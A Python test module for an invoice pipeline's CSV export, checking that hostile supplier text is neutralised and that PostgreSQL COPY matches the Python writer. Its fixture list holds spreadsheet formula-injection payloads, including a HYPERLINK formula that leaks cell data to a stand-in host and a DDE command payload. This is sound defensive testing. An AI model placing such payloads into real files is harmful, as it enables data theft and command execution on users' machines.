"""CSV exports with hostile supplier text: formulas, line breaks, control and invisible characters,
overlong values. Every row stays one row, no text cell starts a formula, our own negative amounts
stay numbers, and PostgreSQL's COPY writes the same bytes as the Python writer."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import literal, select, union_all

from invoice_pipelines.db.tenancy import find_organization, tenant_transaction
from invoice_pipelines.exports.domain.csv import (
    INVOICE_COLUMNS,
    LINE_COLUMNS,
    TEXT_COLUMNS,
    query_file,
    rows_file,
)
from invoice_pipelines.exports.domain.pipeline import run_export
from invoice_pipelines.exports.domain.reads import booked_lines_query
from invoice_pipelines.limits import MAX_TEXT_FIELD_CHARS
from invoice_pipelines.resources.files.files import LocalFiles
from invoice_pipelines_tests.exports.books import DATEV, incoming

D = Decimal
FORMULA_STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "Acme\rGmbH",  # a lone CR: the csv module leaves it unquoted
    "Acme\nGmbH\r\n2nd line",
    "Acme\u202eHbmG",  # right-to-left override
    "Ac\u200bme\u2066 GmbH\u2069",
    "Nul\x00byte \x1b[31mred",
    "x" * (MAX_TEXT_FIELD_CHARS + 500),
]


def _storable(value: str, kind: str = "postgresql", length: int | None = None) -> str:
    """What PostgreSQL stores: no NUL (refused before any export could see it), no value longer
    than its column (SQLite keeps either)."""
    return value.replace("\x00", "")[:length] if kind == "postgresql" else value


def _parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _assert_safe(rows: list[list[str]], columns, expected_rows: int) -> None:
    assert len(rows) == expected_rows + 1, "a value split a row"
    assert rows[0] == list(columns)
    text = [i for i, name in enumerate(columns) if name in TEXT_COLUMNS]
    for row in rows[1:]:
        assert len(row) == len(columns)
        for i in text:
            value = row[i]
            assert len(value) <= MAX_TEXT_FIELD_CHARS
            assert not value.lstrip(" \u00a0\u3000").startswith(FORMULA_STARTS), value
            assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in value), value
            assert not any(c in value for c in "\u200b\u202e\u2066\u2069\ufeff"), value


def test_python_writer_neutralises_text_cells_and_keeps_negative_amounts():
    rows = [
        (i, name, 1, name, D("-1.0000"), name[:3], D("12.50"), D("-12.50"), "S", D("19.00"))
        for i, name in enumerate(HOSTILE_NAMES, start=1)
    ]
    parsed = _parse(b"".join(rows_file(LINE_COLUMNS, rows)))
    _assert_safe(parsed, LINE_COLUMNS, len(rows))
    by_id = {int(r[0]): r for r in parsed[1:]}
    assert by_id[1][1].startswith("'=HYPERLINK(")
    assert by_id[2][3] == "'=cmd|' /C calc'!A0"
    assert by_id[11][1] == "Acme GmbH"
    assert by_id[13][1] == "AcmeHbmG"
    assert by_id[16][1].endswith("…")
    # our numbers are never quoted, negative or not
    assert {r[4] for r in parsed[1:]} == {"-1.0000"} and {r[7] for r in parsed[1:]} == {"-12.50"}


def test_export_files_of_a_hostile_month_read_back_row_for_row(db, tmp_path):
    org = db.new_organization(**DATEV)
    for i, name in enumerate(HOSTILE_NAMES):
        incoming(
            db.engine,
            org["id"],
            _storable(name, db.kind, 128) if i % 2 else f"H-{i}",
            seller=_storable(name, db.kind, 255),
            vat_id=None,  # partners by name: one per hostile name
            taxes=[("S", "19", "-10.00", "-1.90")],
            lines=[
                (_storable(name, db.kind, 512), "1", "-10.00", "19"),
                ("plain", "2", "0.50", "19"),
            ],
        )
    result = run_export(
        db.engine,
        LocalFiles(str(tmp_path)),
        find_organization(db.engine, org["slug"]),
        "2026-11",
        "incoming",
    )
    assert result.skipped == []
    invoices = _parse(Path(result.files["csv"]).read_bytes())
    lines = _parse(Path(result.files["csv_lines"]).read_bytes())
    _assert_safe(invoices, INVOICE_COLUMNS, len(HOSTILE_NAMES))
    _assert_safe(lines, LINE_COLUMNS, 2 * len(HOSTILE_NAMES))
    gross = INVOICE_COLUMNS.index("gross_total")
    assert {r[gross] for r in invoices[1:]} == {"-11.90"}
    assert {r[LINE_COLUMNS.index("net_amount")] for r in lines[1:]} == {"-10.00", "1.00"}


def test_copy_writes_the_same_bytes_as_the_python_writer(pg_database, tmp_path):
    db = pg_database
    org = db.new_organization(**DATEV)
    for name in HOSTILE_NAMES:
        incoming(
            db.engine,
            org["id"],
            _storable(name, length=128),
            seller=_storable(name, length=255),
            lines=[(_storable(name, length=512), "1", "-10.00", "19"), ("", "1", "1.00", "19")],
        )
    store = LocalFiles(str(tmp_path))
    result = run_export(
        db.engine, store, find_organization(db.engine, org["slug"]), "2026-11", "incoming"
    )
    query = booked_lines_query(org["id"], "2026-11", "incoming", result.export_id)
    with tenant_transaction(db.engine, org["id"]) as conn:
        copied = Path(query_file(conn, store, "copy.csv", query, LINE_COLUMNS)).read_bytes()
        written = b"".join(rows_file(LINE_COLUMNS, conn.execute(query)))
    assert copied == written
    assert copied == Path(result.files["csv_lines"]).read_bytes()
    _assert_safe(_parse(copied), LINE_COLUMNS, 2 * len(HOSTILE_NAMES))


# --- fuzzing ------------------------------------------------------------------------------------

_HOSTILE_CHAR = st.one_of(
    st.sampled_from(list("=+-@\uff1d\uff0b\uff0d\uff20 \t\r\n\x00\x01\x1f\x7f\x85\x9f\"',;|\\.")),
    st.sampled_from(["\u200b", "\u200c", "\u200d", "\u200e", "\u202a", "\u202e", "\u2066"]),
    st.sampled_from(["\u2069", "\ufeff", "\u00ad", "\u2028", "\u2029", "\U000e0041", "😀"]),
    st.characters(codec="utf-8"),
)
HOSTILE_TEXT = st.one_of(
    st.text(alphabet=_HOSTILE_CHAR, max_size=40),
    st.builds(
        lambda head, tail, n: head + tail * n,
        st.text(alphabet=_HOSTILE_CHAR, max_size=3),
        st.text(alphabet=_HOSTILE_CHAR, min_size=1, max_size=2),
        st.integers(MAX_TEXT_FIELD_CHARS // 2 - 5, MAX_TEXT_FIELD_CHARS + 5),
    ),
)
_ids = itertools.count(1)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=5))
def test_fuzz_python_writer(values):
    rows = [
        (i, number, 1, description, D("-1"), unit, D("-0.01"), D("-12.50"), "S", D("0"))
        for i, (number, description, unit) in enumerate(values)
    ]
    _assert_safe(_parse(b"".join(rows_file(LINE_COLUMNS, rows))), LINE_COLUMNS, len(rows))


@pytest.fixture(scope="module")
def pg_store(pg_database, tmp_path_factory):
    return pg_database, LocalFiles(str(tmp_path_factory.mktemp("copy")))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=3))
def test_fuzz_copy_path_matches_the_python_writer(pg_store, data):
    db, store = pg_store
    data = [tuple(map(_storable, pair)) for pair in data]
    selects = [
        select(
            literal(i).label("invoice_id"),
            literal(number).label("invoice_number"),
            literal(i).label("line_no"),
            literal(description).label("description"),
            literal(D("-1.5000")).label("quantity"),
            literal(None).label("unit_code"),
            literal(D("-0.01")).label("unit_price"),
            literal(D("-12.50")).label("net_amount"),
            literal(description[:2]).label("vat_category"),
            literal(D("19.00")).label("vat_rate"),
        )
        for i, (number, description) in enumerate(data)
    ]
    query = select(*union_all(*selects).subquery().c).order_by("line_no")
    key = f"fuzz-{next(_ids)}-{date.today():%Y%m%d}.csv"
    with db.engine.connect() as conn:
        copied = Path(query_file(conn, store, key, query, LINE_COLUMNS)).read_bytes()
        written = b"".join(rows_file(LINE_COLUMNS, conn.execute(query)))
    store.remove(key)
    assert copied == written
    _assert_safe(_parse(copied), LINE_COLUMNS, len(data))
